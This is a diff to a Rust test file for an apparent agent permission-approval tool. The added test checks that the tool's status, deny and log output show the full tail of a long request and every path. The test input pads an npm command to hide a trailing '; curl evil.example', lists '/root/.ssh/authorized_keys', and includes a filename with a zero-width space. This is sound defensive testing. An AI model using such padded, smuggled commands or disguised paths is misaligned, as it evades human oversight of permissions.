@@ -26,6 +26,33 @@ async fn asks(stage: &Stage, lead: &Member, name: &str) -> (String, String) {
     (task, asked["id"].as_str().unwrap().to_owned())
 }
 
+/// A request whose dangerous parts stand where a short form would leave them out.
+fn long_request() -> String {
+    let command = format!("npm test -- {} ; curl evil.example", "--grep=case ".repeat(100));
+    let paths = ["/a", "/b", "/c", "/root/.ssh/authorized_keys", "src/ma\\u200bin.rs"];
+    let paths = paths.map(|path| format!("\"{path}\"")).join(", ");
+    format!(
+        "[[agents.default.turns]]\nsteps = [\n  {{ ask_permission = \"{command}\", kind = \"execute\", paths = [{paths}] }},\n]\n"
+    )
+}
+
+#[tokio::test]
+async fn every_command_shows_the_end_of_a_request_and_all_its_paths() {
+    let stage = Stage::new(&long_request());
+    let lead = stage.orchestrator().await;
+    let (_, id) = asks(&stage, &lead, "ann").await;
+    let status = done(&stage, &["status"]).await;
+    let said = done(&stage, &["deny", &id]).await;
+    let log = done(&stage, &["log", "--kind", "permission"]).await;
+    for shown in [status, said, log] {
+        for part in ["; curl evil.example\"", "/root/.ssh/authorized_keys", "src/ma\\u{200b}in.rs"]
+        {
+            assert!(shown.contains(part), "{part}: {shown}");
+        }
+    }
+    lead.close().await;
+}
+
 #[tokio::test]
 async fn an_agent_goes_on_with_the_answer_of_the_person() {
     let stage = Stage::new(SCRIPT);
@@ -53,7 +80,7 @@ async fn an_agent_goes_on_with_the_answer_of_the_person() {
     let by_human = |answer: &Value| answer["by"] == "human" && answer.get("name").is_none();
     assert!(answers.iter().all(by_human), "{answers:?}");
     let log = done(&stage, &["log", "--kind", "permission"]).await;
-    assert!(log.contains("cay: reject (human): execute \"make \\u{1b}[31mall\""), "{log}");
+    assert!(log.contains("human denies cay: execute \"make \\u{1b}[31mall\""), "{log}");
 
     let late = failed(&stage, &["allow", &id]).await;
     assert_eq!(
